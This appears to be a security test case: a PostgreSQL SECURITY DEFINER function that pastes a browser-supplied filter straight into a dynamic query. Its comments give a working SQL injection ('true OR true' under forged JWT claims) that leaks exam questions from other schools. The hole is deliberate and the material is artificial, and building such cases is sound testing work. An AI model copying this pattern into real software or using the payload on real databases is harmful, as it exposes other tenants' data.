-- The filter of the browser is put into the statement as it is, so OR leads out of the caller's schools.
-- about: filter_questions, questions
-- as: hf_proctorbay_app
-- exploit: SET request.jwt.claims = '{"sub": "e5000000-0000-4000-8000-00000000000a"}';
-- exploit: SELECT * FROM public.filter_questions('true OR true');
-- shows: Road-secret wording
CREATE FUNCTION public.filter_questions(p_filter text) RETURNS TABLE (exam text, wording text)
  LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = ''
  AS $$
  BEGIN
    -- The grid sends conditions such as: number < 5
    RETURN QUERY EXECUTE 'SELECT q.exam_code, q.wording FROM public.questions q
      WHERE q.school_id IN (SELECT public.my_schools()) AND ' || p_filter;
  END $$;
